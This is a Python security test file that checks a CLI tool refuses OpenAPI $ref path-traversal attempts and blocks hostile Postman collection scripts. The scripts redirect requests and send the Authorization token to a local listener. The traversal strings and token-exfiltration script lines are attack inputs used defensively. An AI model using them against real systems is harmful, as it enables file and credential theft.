"""A spec that reaches for the user's files, and a collection that reaches for the attacker.

`$ref`s out of the spec's folder are refused before anything is read, so the canary file's
content shows up nowhere. `postwright verify` applies the script policy before it runs
anything: a hostile collection never reaches the listener, with or without a network namespace.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.security.attack_kit import Canaries, Recorder, artifacts, cli, have_newman, leaks, write_yaml


def _spec_with_ref(ref: str) -> dict:
    return {
        "openapi": "3.0.3",
        "info": {"title": "Refs", "version": "2"},
        "paths": {
            "/notes": {
                "get": {
                    "responses": {
                        "200": {
                            "description": "ok",
                            "content": {"application/json": {"schema": {"$ref": ref}}},
                        }
                    }
                }
            }
        },
    }


def _refs(secret_file: Path, outside: Path) -> dict[str, str]:
    return {
        "file-url": secret_file.as_uri(),
        "dot-dot": "../outside/secret.yaml",
        "deep-dot-dot": "../../../../../../../../.." + str(secret_file),
        "absolute": str(secret_file),
        "symlink-out": "link/secret.yaml",
        "encoded": "..%2Foutside%2Fsecret.yaml",
        "fragment": "../outside/doc.yaml#/components/schemas/S",
    }


@pytest.mark.parametrize("kind", sorted(_refs(Path("/x"), Path("/y"))))
def test_refs_outside_the_spec_folder_read_nothing(kind: str, tmp_path: Path) -> None:
    canaries = Canaries()
    outside = tmp_path / "outside"
    outside.mkdir()
    secret_file = outside / "secret.yaml"
    # A valid schema whose enum the generator would copy into a test: read, it would show.
    leak = {"type": "string", "enum": [canaries.file_secret], "description": canaries.file_secret}
    secret_file.write_text(json.dumps(leak))
    (outside / "doc.yaml").write_text(json.dumps({"components": {"schemas": {"S": leak}}}))
    project = tmp_path / "project"
    project.mkdir()
    (project / "link").symlink_to(outside, target_is_directory=True)
    write_yaml(project / "base.yaml", {**_spec_with_ref("#/x"), "paths": {}})
    write_yaml(project / "rev.yaml", _spec_with_ref(_refs(secret_file, outside)[kind]))

    for args in (
        ("generate", "--spec", "rev.yaml", "--base", "base.yaml", "-o", "tests.json"),
        ("diff", "base.yaml", "rev.yaml"),
    ):
        done = cli(*args, cwd=project)
        console = done.stdout + done.stderr
        assert done.returncode == 2, console[-2000:]
        assert "Traceback" not in console and len(done.stderr.strip().splitlines()) == 1, console
        assert "$ref" in done.stderr and "refused" in done.stderr, done.stderr
        assert leaks(canaries.values, artifacts(project, outputs=console)) == []


def test_the_same_ref_inside_the_folder_is_read(tmp_path: Path) -> None:
    """The control: where a ref is allowed, the canary does reach the output, so its absence
    above means the file was not read."""
    canaries = Canaries()
    leak = {"type": "string", "enum": [canaries.file_secret]}
    (tmp_path / "inside.yaml").write_text(json.dumps(leak))
    write_yaml(tmp_path / "base.yaml", {**_spec_with_ref("#/x"), "paths": {}})
    write_yaml(tmp_path / "rev.yaml", _spec_with_ref("inside.yaml"))
    done = cli("generate", "--spec", "rev.yaml", "--base", "base.yaml", "-o", "tests.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert canaries.file_secret in (tmp_path / "tests.json").read_text()


@pytest.mark.sandbox
@pytest.mark.skipif(not have_newman(), reason="newman is not installed (make sandbox)")
@pytest.mark.parametrize("isolate", ["none", "auto"])
def test_verify_runs_no_hostile_script(isolate: str, tmp_path: Path, listener: Recorder) -> None:
    demo_spec = Path(__file__).resolve().parents[2] / "agent/examples/demo/specs/petstore-v2.yaml"
    host = f"127.0.0.1:{listener.port}"
    scripts = [
        f'pm.collectionVariables.set("baseUrl", "http:/" + "/{host}");',
        f'pm.sendRequest("http:/" + "/{host}/?t=" + pm.request.headers.get("Authorization"));',
        f'pm.variables.set("baseUrl", ["http:", "", "{host}"].join("/"));',
    ]
    items = [
        {
            "name": f"hostile {i}",
            "request": {
                "method": "GET",
                "header": [{"key": "Authorization", "value": "Bearer {{accessToken}}"}],
                "url": "{{baseUrl}}/pets",
            },
            "event": [{"listen": "prerequest", "script": {"type": "text/javascript", "exec": [s]}}],
        }
        for i, s in enumerate(scripts)
    ]
    collection = {
        "info": {
            "name": "hostile",
            "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json",
        },
        "item": items * 2,
        "variable": [{"key": "baseUrl", "value": ""}],
    }
    (tmp_path / "c.json").write_text(json.dumps(collection))
    done = cli(
        "verify", "c.json", "--spec", str(demo_spec), "--runs", "1", "--isolate", isolate, cwd=tmp_path
    )
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode != 0
    assert listener.requests == [], listener.text()[:2000]
